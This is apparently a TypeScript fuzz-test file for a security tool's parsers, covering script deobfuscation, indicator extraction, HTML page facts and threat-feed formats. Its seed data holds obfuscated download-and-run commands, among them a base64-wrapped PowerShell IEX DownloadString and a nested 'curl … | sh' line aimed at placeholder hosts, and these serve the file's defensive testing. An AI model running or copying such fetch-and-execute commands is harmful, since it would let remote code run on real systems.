/** Fuzz targets for the text parsers: script layers and signals, embedded indicators, HTML page facts, feed formats. */
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { extractPageFacts } from '../../../src/page-analyzers/html-page/page-facts.js';
import { bytesIndicators, DEFAULT_INDICATOR_LIMITS } from '../../../src/analyzers/indicators/index.js';
import { analyzeScriptText, DEFAULT_LAYER_LIMITS, scriptText } from '../../../src/analyzers/script/index.js';
import { detectFeedFormat, feedEntryOf, feedFormats, MAX_LINE_CHARS, newParseStats, type FeedFormatName } from '../../../src/feeds/index.js';
import { bytesAndMutations, fuzzTarget, mutationsOf, textBytes } from '../support/fuzz-target.js';

const utf16 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
const charCodes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',');

const SCRIPT_SEEDS = [
  `powershell -NoP -EncodedCommand ${utf16('IEX (New-Object Net.WebClient).DownloadString("http://example.test/a.ps1")')}`,
  `$d = [Convert]::FromBase64String("${gzipSync(Buffer.from('Invoke-Expression "calc.exe"; http://example.test/x')).toString('base64')}"); IEX $d`,
  `eval(String.fromCharCode(${charCodes('document.location="http://example.test/"')}))`,
  `var s = "\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65"; eval(unescape("%61%6c%65%72%74%28%31%29"));`,
  `echo ${Buffer.from(`echo ${Buffer.from('curl http://198.51.100.7/x | sh').toString('base64')} | base64 -d | sh`).toString('base64')} | base64 -d | sh`,
  'Set o = CreateObject("WScript.Shell"): o.Run Chr(99) & Chr(109) & Chr(100) & " /c hxxp://evil[.]test/p"',
  '<script>var a="ht"+"tp://ex"+"ample.test/";</script>',
].map((s) => Buffer.from(s, 'utf8'));

const HTML_SEED = Buffer.from(
  `<!doctype html><html><head><title>Seed &amp; page</title><meta name="description" content="d"><meta property="og:title" content="t">
<script>ga('create','UA-1234567-1');gtag('config','G-ABCDEF1234');fbq('init','123456789012');</script></head>
<body><a href="https://other.test/x">x</a><a href="/local">l</a><a href="javascript:alert(1)">j</a><base href="http://b.test/">
<a href="//proto.test/p?q#f">p</a><!-- <a href="http://comment.test/"> --><iframe src="http://frame.test/"></iframe></body></html>`,
);

const FEED_SEEDS: Record<FeedFormatName, string> = {
  urlhaus: '# URLhaus database dump\n# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"1","2024-01-15 12:34:56","http://198.51.100.7/bins/x.arm","online","2024-01-15 12:34:56","malware_download","elf,mirai","https://urlhaus.abuse.ch/url/1/","someone"\n"2","2024-01-15 12:35:00","http://example.test/a b","offline","","malware_download","","https://urlhaus.abuse.ch/url/2/","x"\n',
  openphish: 'https://phish.example.test/login\nhttp://xn--80ak6aa92e.test/\n\nnot a url\n',
  phishtank:
    'phish_id,url,phish_detail_url,submission_time,verified,verification_time,online,target\n123,http://phish.test/a?b=c,http://www.phishtank.com/phish_detail.php?phish_id=123,2024-01-15T12:34:56+00:00,yes,2024-01-15T13:00:00+00:00,yes,"Some ""Bank"""\n',
  plain: '# local list\nexample.test\n198.51.100.7\nhttp://bad.example.test/path\n2001:db8::1\n.trailing.dot.\n',
};
const PHISHTANK_JSON = '[{"phish_id":1,"url":"http://phish.test/x","submission_time":"2024-01-15T12:34:56+00:00","target":"Bank","details":[{"ip_address":"198.51.100.7"}]},{"url":42},null,{"url":"ftp://f.test/"}]';

const SEED_LINES = Buffer.from('\n,"""\r\n#\ufeff\u2028\u0000 http:// https://urlhaus.abuse.ch/ phish_id,url, [{"url":"x"}] \\', 'utf8');

async function* chunked(bytes: Buffer, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

export const targets = {
  'script-layers': fuzzTarget({
    inputs: () => fc.oneof(mutationsOf(SCRIPT_SEEDS), textBytes(fc.string({ maxLength: 400, unit: 'binary' }))),
    check: (input) => {
      const text = scriptText(input);
      const { layers, signals, language } = analyzeScriptText(text, undefined, ['sample.ps1']);
      const l = DEFAULT_LAYER_LIMITS;
      assert.ok(layers.length <= l.maxLayers);
      assert.ok(layers.every((layer) => layer.depth >= 1 && layer.depth <= l.maxDepth));
      assert.ok(layers.every((layer) => layer.text.length <= l.maxLayerChars));
      assert.ok(layers.reduce((n, layer) => n + layer.text.length, 0) <= l.maxTotalChars);
      layers.forEach((layer, i) => assert.ok(layer.parent >= -1 && layer.parent < i, `layer ${i} comes from an earlier one`));
      assert.equal(typeof language.language, 'string');
      assert.doesNotThrow(() => JSON.stringify(signals));
    },
    shortRuns: 400,
  }),

  indicators: fuzzTarget({
    inputs: () => fc.tuple(fc.constantFrom(undefined, 'powershell', 'text', 'html'), bytesAndMutations([...SCRIPT_SEEDS, HTML_SEED], [], 2048)).map(([tag, bytes]) => Buffer.concat([Buffer.from(`${tag ?? ''}\n`), bytes])),
    check: (input) => {
      const nl = input.indexOf(0x0a);
      const typeTag = input.subarray(0, nl).toString() || undefined;
      const found = bytesIndicators(input.subarray(nl + 1), { typeTag });
      const l = DEFAULT_INDICATOR_LIMITS;
      assert.ok(found.urls.length <= l.maxUrls && found.domains.length <= l.maxDomains && found.ips.length <= l.maxIps);
      assert.ok(found.urls.every((u) => u.length <= l.maxUrlChars), 'URLs within the length bound');
      for (const list of [found.urls, found.domains, found.ips]) assert.equal(new Set(list).size, list.length, 'no duplicates');
      assert.ok(found.domains.every((d) => /^[a-z0-9.-]+$/.test(d)), `domains are lower-case names: ${found.domains.join(' ')}`);
    },
    shortRuns: 400,
  }),

  'html-page-facts': fuzzTarget({
    inputs: () => fc.oneof(mutationsOf([HTML_SEED]), textBytes(fc.string({ maxLength: 600, unit: 'binary' }))),
    check: (input) => {
      const facts = extractPageFacts(input.toString('utf8'), 'https://page.example.test/dir/index.html', 1_700_000_000);
      assert.ok(facts.outgoing_links.length <= 500);
      assert.ok(facts.outgoing_links.every((link) => /^https?:\/\//.test(link)), 'links are absolute http(s) URLs');
      assert.ok((facts.title?.length ?? 0) <= 1024);
      assert.ok(Object.values(facts.html_meta).every((values) => values.length <= 50 && values.every((v) => v.length <= 1024)));
      assert.doesNotThrow(() => JSON.stringify(facts));
    },
    shortRuns: 400,
  }),

  'feed-formats': fuzzTarget({
    // The first byte picks the format and the chunk size, so splits across chunks are fuzzed too.
    inputs: () =>
      fc.tuple(fc.integer({ min: 0, max: 255 }), fc.oneof(mutationsOf([...Object.values(FEED_SEEDS), PHISHTANK_JSON].map((s) => Buffer.from(s)).concat(SEED_LINES)), fc.uint8Array({ maxLength: 600 }).map((a) => Buffer.from(a)))).map(([selector, bytes]) => Buffer.concat([Buffer.from([selector]), bytes])),
    check: async (input) => {
      const names = Object.keys(feedFormats) as FeedFormatName[];
      const selector = input[0] ?? 0;
      const format = names[selector % names.length]!;
      const body = input.subarray(1);
      const stats = newParseStats();
      let records = 0;
      for await (const record of feedFormats[format].parse(chunked(body, 1 + (selector >> 2)), stats)) {
        records++;
        assert.ok(record.url.length <= MAX_LINE_CHARS, 'a record is no longer than a line');
        // Every record becomes a store entry: its URL canonicalises (or it is a normalised host).
        const entry = feedEntryOf(record);
        assert.ok(record.hostOnly ? entry.urlId === '' && entry.host === record.url : /^[0-9a-f]{64}$/.test(entry.urlId));
        assert.ok(record.addedAt === null || Number.isInteger(record.addedAt));
      }
      assert.equal(stats.records, records);
      const firstLines = body.toString('utf8').split('\n').slice(0, 5);
      const detected = detectFeedFormat(firstLines);
      assert.ok(detected === undefined || names.includes(detected));
    },
    shortRuns: 400,
  }),
};
